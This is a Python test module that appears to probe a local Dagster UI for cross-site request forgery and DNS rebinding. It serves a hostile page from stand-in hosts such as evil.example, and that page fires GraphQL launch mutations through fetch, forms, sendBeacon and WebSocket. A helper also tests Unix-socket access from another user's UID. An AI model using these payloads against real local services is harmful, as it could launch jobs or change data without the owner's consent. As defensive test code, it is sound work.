"""A page of another website that attacks a Dagster UI on this machine, and a process of another user."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import requests
from playwright.sync_api import Browser
from werkzeug import Response

from tests.abuse.websites import LAUNCH, MUTATION, PARAMETERS
from tests.e2e.chromium import patient_page
from tests.loopback import LoopbackServer

EVIL_IS_HERE = "MAP *.example 127.0.0.1"
FOREIGN_PAGE = """<!doctype html><title>evil</title><script>
const ui = %(ui)s, query = %(query)s, json = %(json)s, told = [];
const tell = (name, what) => told.push([name, String(what)]);
async function attack() {
  const image = new Image();
  await new Promise(done => { image.onload = image.onerror = done; image.src = `${ui}/graphql?${query}`; });
  for (const type of ["text/plain", "application/x-www-form-urlencoded"])
    for (const mode of ["no-cors", "cors"])
      await fetch(`${ui}/graphql`, { method: "POST", mode, headers: { "content-type": type }, body: json })
        .then(answer => tell("fetch", answer.type + answer.status), error => tell("fetch", error));
  await fetch(`${ui}/graphql`, { method: "POST", headers: { "content-type": "application/json" }, body: json })
    .then(answer => tell("json", answer.status), error => tell("json", error));
  await fetch(`${ui}/graphql?${query}`, { mode: "no-cors" }).catch(() => 0);
  navigator.sendBeacon(`${ui}/graphql`, new Blob([json], { type: "text/plain" }));
  await new Promise(done => {
    const socket = new WebSocket(ui.replace("http", "ws") + "/graphql", "graphql-ws");
    socket.onopen = () => {
      tell("websocket", "open");
      socket.send(JSON.stringify({ type: "connection_init" }));
      socket.send(JSON.stringify({ type: "start", id: "1", payload: JSON.parse(json) }));
      setTimeout(done, 1000);
    };
    socket.onerror = () => { tell("websocket", "refused"); done(); };
  });
  for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.name = `frame-${type}`;
    const form = document.body.appendChild(document.createElement("form"));
    Object.assign(form, { method: "POST", action: `${ui}/graphql?${query}`, enctype: type, target: frame.name });
    form.append(Object.assign(document.createElement("input"), { name: json, value: "" }));
    form.submit();
    await new Promise(done => { frame.onload = done; setTimeout(done, 700); });
  }
  const rebound = `http://evil.localhost:${new URL(ui).port}`;
  await fetch(`${rebound}/graphql`, { method: "POST", mode: "no-cors", body: json }).catch(() => 0);
  return told;
}
</script><body>"""


@contextmanager
def foreign_site(ui_url: str) -> Iterator[int]:
    """A website with `FOREIGN_PAGE` on a port of its own."""
    values = {"ui": json.dumps(ui_url), "query": json.dumps(requests.models.PreparedRequest._encode_params(MUTATION)),
              "json": json.dumps(json.dumps({"query": LAUNCH, "variables": PARAMETERS}))}  # fmt: skip
    page = FOREIGN_PAGE
    for name, value in values.items():
        page = page.replace(f"%({name})s", value.replace("</", "<\\/"))

    with LoopbackServer(lambda _: Response(page, content_type="text/html")) as server:
        yield server.port


def attack_from(browser: Browser, ui_url: str, port: int) -> list[list[str]]:
    """Let pages of other sites attack the UI; what they saw. One of them has a name that points at this machine."""
    told = []
    for site in (f"http://evil.example:{port}", f"http://127.0.0.1:{port}", f"http://localhost:{port}"):
        page = patient_page(browser)
        page.goto(site)
        told += page.evaluate("attack()")
        page.wait_for_timeout(500)
        page.close()
    page = patient_page(browser)  # DNS rebinding: its own name, and by now the UI's address
    answer = page.goto(f"http://evil.example:{ui_url.rsplit(':', 1)[1]}/")
    told.append(["rebound", str(answer.status if answer else "")])
    sent = "body => fetch('/graphql', {method: 'POST', headers: {'content-type': 'application/json'}, body})"
    body = json.dumps({"query": LAUNCH, "variables": PARAMETERS})
    told.append(["rebound", str(page.evaluate(f"body => ({sent})(body).then(answer => answer.status)", body))])
    page.close()
    return told


def connects_as(user: int, path: Path) -> bool:
    code = (
        f"import os, socket; os.setgroups([]); os.setgid({user}); os.setuid({user})\n"
        f"try: socket.socket(socket.AF_UNIX).connect({str(path)!r})\nexcept PermissionError: raise SystemExit(3)"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True)
    assert done.returncode in (0, 3), done.stderr
    return done.returncode == 0
